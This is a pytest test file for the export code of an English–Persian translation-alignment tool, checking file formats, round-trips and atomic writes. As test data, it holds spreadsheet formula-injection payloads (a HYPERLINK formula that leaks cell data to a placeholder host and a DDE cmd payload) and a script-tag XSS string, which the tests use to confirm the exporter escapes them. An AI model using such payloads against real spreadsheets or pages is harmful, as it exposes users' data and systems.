"""Exports: every format round-trips, Excel-friendly CSV that runs no formula, escaped TMX,
atomic writes, and a CSV/JSONL export reads back into the Alignment it was written from.

The alignment is built by hand from the seed article (English lines and their real Persian
translation, one line a segment, as `--split lines` gives), because what is tested here is
the writing, not the aligner: no encoder is involved.
"""

from __future__ import annotations

import csv
import dataclasses
import itertools
import json
from pathlib import Path

import pytest
from lxml import etree
from openpyxl import load_workbook

from workbench.errors import InputError
from workbench.fidelity import summarise
from workbench.model import Alignment, DocumentFidelity, Link, LinkFidelity, ReviewError, Segment, scored
from workbench.options import Options
from workbench.output import export, files, formats, report_files

SEED = Path(__file__).resolve().parents[1] / "seeds" / "000_e5fe0829ebe86db2.txt"
XML_LANG = "{http://www.w3.org/XML/1998/namespace}lang"
SIGNATURE = Options().signature("multilingual-e5-small", "en", "fa")
FORMATS = (".csv", ".jsonl", ".tmx", ".xlsx")
XLIFF = (".xlf", ".xliff")  # links too, written by workbench.output.xliff (tests/test_xliff.py)


def segments(parts: list[tuple[int, str]]) -> list[Segment]:
    """Segments for (paragraph, text) pairs, with offsets found in the paragraph's text."""
    lines = SEED.read_text(encoding="utf-8").splitlines()
    result = []
    for number, (paragraph, text) in enumerate(parts):
        start = lines[paragraph].index(text)
        result.append(Segment(number, text, text, paragraph, start, start + len(text)))
    return result


def seed_alignment(with_scores: bool = True) -> Alignment:
    lines = SEED.read_text(encoding="utf-8").splitlines()
    # Persian line 21 holds two sentences that together translate English line 6 (a 1-2 link)
    first, second = lines[21].split(". ", 1)
    src = segments([(1, lines[1]), (2, lines[2]), (4, lines[4]), (6, lines[6]), (7, lines[7])])
    tgt = segments([(17, lines[17]), (18, lines[18]), (19, lines[19]), (21, first + "."), (21, second), (28, lines[28])])
    links = [
        Link((0,), (0,), 0.8712345),
        Link((1,), (1,), 0.84),
        Link((2,), (2,), 0.79),
        Link((3,), (3, 4), 0.7),
        Link((4,), (), None),  # the State Department's denial: not in the Persian
        Link((), (5,), None),  # the Persian "source:" line
    ]
    alignment = Alignment(src, tgt, "en", "fa", links, model="multilingual-e5-small", notes=["bilingual file"],
                          signature=SIGNATURE)
    if not with_scores:
        return alignment
    scores = [
        LinkFidelity(0.93, "faithful"),
        LinkFidelity(0.9, "faithful"),
        LinkFidelity(0.55, "minor", ("name_mismatch", "length_ratio"), ((0, 6), (10, 20)), ((3, 9),)),
        LinkFidelity(0.71, "minor"),
        LinkFidelity(0.0, "omission"),
        LinkFidelity(0.0, "addition"),
    ]
    summary = DocumentFidelity(0.81, 0.74, "partial translation", {"faithful": 2}, {"name_mismatch": 1})
    return scored(alignment, scores, summary)


REVIEW = {2: {"status": "rejected", "category": "accuracy/mistranslation/entity", "comment": "names differ",
             "errors": (ReviewError("accuracy/mistranslation/entity", "major", src_spans=((0, 6),),
                                    comment="names differ"),
                        ReviewError("style", "minor"))},
          4: {"status": "accepted"}}


def test_rows_follow_the_contract():
    alignment = seed_alignment()
    table = export.rows(alignment, REVIEW)
    assert list(table[0]) == [
        "link", "src_ids", "tgt_ids", "kind", "src_text", "tgt_text", "similarity",
        "fidelity", "label", "issues", "src_spans", "tgt_spans",
        "review_status", "review_category", "review_comment", "review_errors",
        "src_lang", "tgt_lang", "signature",
    ]  # fmt: skip
    assert [row["kind"] for row in table] == ["1-1", "1-1", "1-1", "1-2", "1-0", "0-1"]
    assert table[3]["tgt_ids"] == "3 4"
    assert table[3]["tgt_text"] == alignment.tgt[3].text + " " + alignment.tgt[4].text
    assert table[4]["tgt_ids"] == "" and table[5]["src_ids"] == ""
    assert table[0]["similarity"] == 0.8712 and table[4]["similarity"] is None
    assert table[2]["issues"] == "name_mismatch;length_ratio"
    assert table[2]["src_spans"] == "0-6;10-20" and table[2]["tgt_spans"] == "3-9"
    assert table[2]["review_status"] == "rejected" and table[4]["review_comment"] == ""
    source = alignment.src_text(alignment.links[2])
    assert table[2]["review_errors"] == (f"major accuracy/mistranslation/entity (source “{source[:6]}”): names differ"
                                         " | minor style (the whole link)")
    assert table[4]["review_errors"] == ""
    assert table[0]["review_status"] == ""
    assert (table[0]["src_lang"], table[5]["tgt_lang"]) == ("en", "fa")
    assert {row["signature"] for row in table} == {alignment.signature}


def test_rows_without_scores_or_review_have_only_the_base_and_language_columns():
    table = export.rows(seed_alignment(with_scores=False))
    assert list(table[0]) == [*export.BASE_COLUMNS, "src_lang", "tgt_lang", "signature"]


@pytest.mark.parametrize("suffix", [".csv", ".jsonl"])
@pytest.mark.parametrize("with_scores, review", [(True, REVIEW), (True, None), (False, None)])
def test_csv_and_jsonl_read_back_as_written(tmp_path, suffix, with_scores, review):
    alignment = seed_alignment(with_scores)
    path = export.write(alignment, tmp_path / f"seed{suffix}", review)
    assert export.read_rows(path) == export.rows(alignment, review)


def test_csv_opens_in_excel_as_utf8(tmp_path):
    path = export.write(seed_alignment(), tmp_path / "seed.csv")
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    header = data[3:].split(b"\r\n", 1)[0].decode()
    assert header.split(",") == export.columns(scored=True, reviewed=False)
    assert "مقامات ایرانی" in data.decode("utf-8-sig")


# Texts Excel or LibreOffice would run as a formula if a CSV cell began with them, and one that
# begins with a quote and "=" as written (the case a reader could mistake for a guarded "=").
FORMULAS = {
    "src": ['=HYPERLINK("http://example.com/?leak="&A1,"click")', "- 125 officials were arrested.",
            "@SUM(1+1) reported", "\t=1+2"],
    "tgt": ["'=1+1 is a quote, not a formula", "+98 21 1234 5678"],
}


def formula_alignment() -> Alignment:
    """The seed alignment with formula-like texts in links 0-3 and a negative similarity."""
    alignment = seed_alignment()
    sides = {}
    for side, texts in FORMULAS.items():
        segs = list(getattr(alignment, side))
        for i, text in enumerate(texts):
            segs[i] = Segment(i, text, text, segs[i].paragraph, 0, len(text))
        sides[side] = segs
    links = list(alignment.links)
    links[1] = Link((1,), (1,), -0.1234)  # centred cosine can be negative: a number, not text
    return dataclasses.replace(alignment, **sides, links=links)


FORMULA_REVIEW = {**REVIEW, 0: {"status": "rejected", "category": "other", "comment": "=cmd|' /C calc'!A0"}}


def test_csv_cells_never_start_a_formula(tmp_path):
    alignment = formula_alignment()
    path = export.write(alignment, tmp_path / "formulas.csv", FORMULA_REVIEW)
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")  # still the BOM Excel needs
    with path.open(encoding="utf-8-sig", newline="") as handle:
        raw = list(csv.DictReader(handle))
    # the text cells carry one more quote than the text ...
    assert [raw[i]["src_text"] for i in range(4)] == ["'" + text for text in FORMULAS["src"]]
    assert raw[0]["tgt_text"] == "''=1+1 is a quote, not a formula" and raw[1]["tgt_text"] == "'+98 21 1234 5678"
    assert raw[0]["review_comment"] == "'=cmd|' /C calc'!A0"
    assert raw[2]["tgt_text"] == alignment.tgt[2].text  # ... and only those that need it
    # the numbers the program wrote are numbers still
    assert (raw[1]["similarity"], raw[1]["fidelity"], raw[1]["link"]) == ("-0.1234", "0.9", "1")
    assert not any(cell[:1] in "=+-@\t\r" for row in raw for name, cell in row.items()
                   if cell and name not in ("similarity", "fidelity"))


@pytest.mark.parametrize("suffix", [".csv", ".jsonl"])
def test_formula_like_text_reads_back_exactly(tmp_path, suffix):
    alignment = formula_alignment()
    path = export.write(alignment, tmp_path / f"formulas{suffix}", FORMULA_REVIEW)
    assert export.read_rows(path) == export.rows(alignment, FORMULA_REVIEW)
    read = export.read_alignment(path)
    assert [read.src_text(link) for link in read.links] == [alignment.src_text(link) for link in alignment.links]
    assert [read.tgt_text(link) for link in read.links] == [alignment.tgt_text(link) for link in alignment.links]
    # CSV -> alignment -> CSV gives the same file, byte for byte
    again = export.write(read, tmp_path / f"again{suffix}")
    assert again.read_bytes() == export.write(alignment, tmp_path / f"plain{suffix}").read_bytes()


def test_csv_quote_round_trips_every_string():
    """Every string over the characters that matter, up to four long, comes back as it went in."""
    alphabet = ["'", "=", "-", "+", "@", "\t", "\r", "a", " "]
    texts = ["".join(chars) for n in range(5) for chars in itertools.product(alphabet, repeat=n)]
    for text in texts:
        cell = export.csv_cell(text)
        assert export.csv_text(cell) == text
        assert cell == text or cell == "'" + text
        assert cell[:1] not in ("=", "-", "+", "@", "\t", "\r")
    assert export.csv_cell("'quoted") == "'quoted" and export.csv_text("'quoted") == "'quoted"
    assert [export.csv_cell(n) for n in (-0.5, -3, None)] == [-0.5, -3, None]


def test_jsonl_and_tmx_keep_formula_like_text_as_written(tmp_path):
    alignment = formula_alignment()
    records = [json.loads(line) for line in
               export.write(alignment, tmp_path / "formulas.jsonl").read_text(encoding="utf-8").splitlines()]
    assert [r["src_text"] for r in records[:4]] == FORMULAS["src"]
    assert records[0]["tgt_text"] == FORMULAS["tgt"][0] and records[1]["similarity"] == -0.1234
    units = etree.parse(str(export.write(alignment, tmp_path / "formulas.tmx"))).getroot().findall("body/tu")
    segs = [[tuv.findtext("seg") for tuv in unit.findall("tuv")] for unit in units]
    assert [pair[0] for pair in segs] == FORMULAS["src"]
    assert [pair[1] for pair in segs[:2]] == FORMULAS["tgt"]


def test_batch_summary_csv_quotes_a_formula_like_document_name(tmp_path):
    index = report_files.write_batch([("=1+2", seed_alignment())], tmp_path / "out")
    assert (index.parent / "=1+2.html").exists()
    with (index.parent / "summary.csv").open(encoding="utf-8-sig", newline="") as handle:
        (row,) = list(csv.DictReader(handle))
    assert (row["document"], row["report"], row["src_lang"]) == ("'=1+2", "'=1+2.html", "en")
    assert row["fidelity"] == "0.7400"


def test_jsonl_has_nulls_and_span_lists(tmp_path):
    path = export.write(seed_alignment(), tmp_path / "seed.jsonl")
    records = [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]
    assert len(records) == 6
    assert records[4]["similarity"] is None
    assert records[2]["src_spans"] == [[0, 6], [10, 20]] and records[0]["src_spans"] == []
    assert "\\u" not in path.read_text(encoding="utf-8")  # Persian written as itself


def test_tmx_holds_one_unit_per_two_sided_link(tmp_path):
    alignment = seed_alignment()
    tree = etree.parse(str(export.write(alignment, tmp_path / "seed.tmx")))
    root = tree.getroot()
    assert root.tag == "tmx" and root.get("version") == "1.4"
    header = root.find("header")
    assert header.get("srclang") == "en" and header.get("creationtool") == "alignment-workbench"
    assert header.get("datatype") == "plaintext" and header.get("segtype") == "sentence"
    assert {p.get("type"): p.text for p in header.findall("prop")} == {
        "x-model": "multilingual-e5-small", "x-signature": alignment.signature}
    units = root.findall("body/tu")
    assert len(units) == 4  # the 1-0 and 0-1 links have no pair to store
    langs = [[tuv.get(XML_LANG) for tuv in unit.findall("tuv")] for unit in units]
    assert langs == [["en", "fa"]] * 4
    last = units[3]
    assert [tuv.findtext("seg") for tuv in last.findall("tuv")] == [alignment.src_text(alignment.links[3]),
                                                                   alignment.tgt_text(alignment.links[3])]
    props = {p.get("type"): p.text for p in last.findall("prop")}
    assert props == {"x-link": "3", "x-kind": "1-2", "x-similarity": "0.7", "x-fidelity": "0.71", "x-label": "minor"}


def test_markup_and_control_characters_reach_tmx_as_text(tmp_path):
    alignment = seed_alignment()
    hostile = "Click <script>alert('x')</script> & \x07bell\x00 here\x1b."
    src = list(alignment.src)
    src[0] = Segment(0, hostile, hostile, 0, 0, len(hostile))
    alignment = dataclasses.replace(alignment, src=src)
    path = export.write(alignment, tmp_path / "hostile.tmx")
    raw = path.read_text(encoding="utf-8")
    assert "<script>" not in raw and "&lt;script&gt;" in raw
    seg = etree.parse(str(path)).getroot().find("body/tu/tuv/seg")
    assert seg.text == "Click <script>alert('x')</script> & bell here."
    assert len(seg) == 0  # no element was smuggled in


def test_xlsx_sheets_styles_and_values(tmp_path):
    alignment = seed_alignment()
    src = list(alignment.src)
    formula = "=HYPERLINK(\"http://example.com\")"
    src[1] = Segment(1, formula, formula, 2, 0, len(formula))
    alignment = dataclasses.replace(alignment, src=src)
    book = load_workbook(export.write(alignment, tmp_path / "seed.xlsx", REVIEW))
    assert book.sheetnames == ["alignment", "about"]
    sheet = book["alignment"]
    header = [cell.value for cell in sheet[1]]
    assert header == export.columns(scored=True, reviewed=True)
    assert all(cell.font.bold for cell in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.max_row == 7
    src_col, tgt_col = header.index("src_text") + 1, header.index("tgt_text") + 1
    assert sheet.cell(2, tgt_col).value == alignment.tgt[0].text
    assert sheet.cell(2, tgt_col).alignment.horizontal == "right"  # Persian
    assert sheet.cell(2, src_col).alignment.horizontal != "right"
    assert sheet.cell(2, src_col).alignment.wrap_text
    assert sheet.cell(3, src_col).value == formula and sheet.cell(3, src_col).data_type == "s"
    about = {row[0]: row[1] for row in book["about"].iter_rows(values_only=True)}
    assert about["source language"] == "en" and about["target language"] == "fa"
    assert about["model"] == "multilingual-e5-small" and about["verdict"] == "partial translation"
    assert about["signature"] == alignment.signature


def test_unknown_extension_names_the_supported_ones(tmp_path):
    with pytest.raises(InputError) as error:
        export.write(seed_alignment(), tmp_path / "seed.docx")
    assert all(suffix in str(error.value) for suffix in (*FORMATS, *XLIFF))
    assert not (tmp_path / "seed.docx").exists()


def contents(path: Path) -> object:
    """What a file holds: its bytes, or for a workbook (which stamps the time it was made) its cells."""
    if path.suffix.lower() != ".xlsx":
        return path.read_bytes()
    return {sheet.title: list(sheet.iter_rows(values_only=True)) for sheet in load_workbook(path)}


def test_one_table_picks_every_file_a_reviewed_document_is_written_as(tmp_path):
    """`formats`: the CLI's export and the app's download buttons name a file, and its suffix,
    in any case, picks the table of links or the report, with the review in either."""
    alignment = seed_alignment()
    assert formats.SUFFIXES == (*FORMATS, *XLIFF, ".html", ".json", ".md")
    assert formats.LINK_SUFFIXES == (*FORMATS, *XLIFF) and formats.REPORT_SUFFIXES == (".html", ".json", ".md")
    for suffix in formats.SUFFIXES:
        path = formats.write(alignment, tmp_path / f"Seed{suffix.upper()}", REVIEW)
        family = report_files if suffix in formats.REPORT_SUFFIXES else export
        made = family.write(alignment, tmp_path / "by-family" / f"Seed{suffix.upper()}", REVIEW)
        assert contents(path) == contents(made)
        if suffix != ".xlsx":  # a workbook stamps the time it was made
            assert path.read_bytes() == formats.encoded(alignment, path.name, REVIEW)
    assert "names differ" in (tmp_path / "Seed.MD").read_text(encoding="utf-8")  # the review is in the report
    assert formats.format_of("a.tmx").media_type == "application/x-tmx+xml"
    assert formats.format_of("a.html").label == "HTML report"
    # each family makes exactly the suffixes the table gives it (export hands XLIFF to its own writer)
    assert formats.LINK_SUFFIXES == (*export._WRITERS, *XLIFF)
    assert formats.REPORT_SUFFIXES == tuple(report_files._RENDERERS)


def test_an_unknown_suffix_names_every_supported_one_and_writes_nothing(tmp_path):
    with pytest.raises(InputError) as error:
        formats.write(seed_alignment(), tmp_path / "seed.docx")
    assert str(error.value) == ("Cannot write seed.docx: unknown extension; use one of "
                                ".csv, .jsonl, .tmx, .xlsx, .xlf, .xliff, .html, .json, .md.")
    assert list(tmp_path.iterdir()) == []


def test_missing_folder_is_created(tmp_path):
    path = export.write(seed_alignment(), tmp_path / "runs" / "today" / "seed.jsonl")
    assert len(export.read_rows(path)) == 6


@pytest.mark.parametrize("suffix", FORMATS)
def test_failed_write_keeps_the_previous_file(tmp_path, monkeypatch, suffix):
    path = tmp_path / f"seed{suffix}"
    export.write(seed_alignment(with_scores=False), path)
    before = path.read_bytes()
    def replace_that_fails(temp, target):
        assert Path(temp).read_bytes() != before  # the new export is complete in the temp file ...
        raise OSError(28, "No space left on device")  # ... and yet never replaces the old one

    monkeypatch.setattr(files.os, "replace", replace_that_fails)
    with pytest.raises(InputError, match=r"^Cannot write .*seed\S*: No space left on device\.$"):
        export.write(seed_alignment(), path)
    assert path.read_bytes() == before
    assert [p.name for p in tmp_path.iterdir()] == [path.name]


def test_atomic_write_cleans_up_after_any_error(tmp_path, monkeypatch):
    path = tmp_path / "links.txt"
    files.atomic_write(path, b"old")

    def fsync_interrupted(descriptor):
        raise KeyboardInterrupt

    monkeypatch.setattr(files.os, "fsync", fsync_interrupted)
    with pytest.raises(KeyboardInterrupt):
        files.atomic_write(path, b"new")
    assert path.read_bytes() == b"old"
    assert [p.name for p in tmp_path.iterdir()] == ["links.txt"]


def test_writing_onto_a_folder_is_an_input_error(tmp_path):
    (tmp_path / "out.csv").mkdir()
    with pytest.raises(InputError, match="out.csv"):
        export.write(seed_alignment(), tmp_path / "out.csv")
    assert [p.name for p in tmp_path.iterdir()] == ["out.csv"]


def test_read_rows_refuses_files_that_are_not_exports(tmp_path):
    other = tmp_path / "other.csv"
    other.write_text("name,value\na,1\n", encoding="utf-8")
    with pytest.raises(InputError, match="not an alignment export"):
        export.read_rows(other)
    with pytest.raises(InputError):
        export.read_rows(tmp_path / "seed.tmx")


@pytest.mark.parametrize("suffix", [".csv", ".jsonl"])
def test_read_alignment_gives_back_the_alignment(tmp_path, suffix):
    alignment = seed_alignment()
    path = export.write(alignment, tmp_path / f"seed{suffix}", REVIEW)
    read = export.read_alignment(path)
    assert (read.src_lang, read.tgt_lang) == ("en", "fa")
    assert read.links == [Link(link.src, link.tgt, None if link.similarity is None else round(link.similarity, 4))
                          for link in alignment.links]
    assert read.scores == alignment.scores
    # the 1-2 link's two Persian sentences come back as one text, exactly as exported
    assert [read.tgt_text(link) for link in read.links] == [alignment.tgt_text(link) for link in alignment.links]
    assert [s.text for s in read.tgt[3:5]] == [alignment.tgt_text(alignment.links[3]), ""]
    assert export.rows(read) == export.rows(alignment)
    assert read.signature == alignment.signature
    assert read.summary == summarise(alignment, alignment.scores)


def test_read_alignment_needs_fidelity_scores_and_every_segment(tmp_path):
    unscored = export.write(seed_alignment(with_scores=False), tmp_path / "unscored.csv")
    with pytest.raises(InputError, match="unscored.csv was aligned without fidelity scores"):
        export.read_alignment(unscored)
    records = export.read_rows(export.write(seed_alignment(), tmp_path / "seed.jsonl"))
    gapped = tmp_path / "gapped.jsonl"
    gapped.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in records if r["link"] != 1),
                      encoding="utf-8")
    with pytest.raises(InputError, match="gapped.jsonl does not number its links"):
        export.read_alignment(gapped)
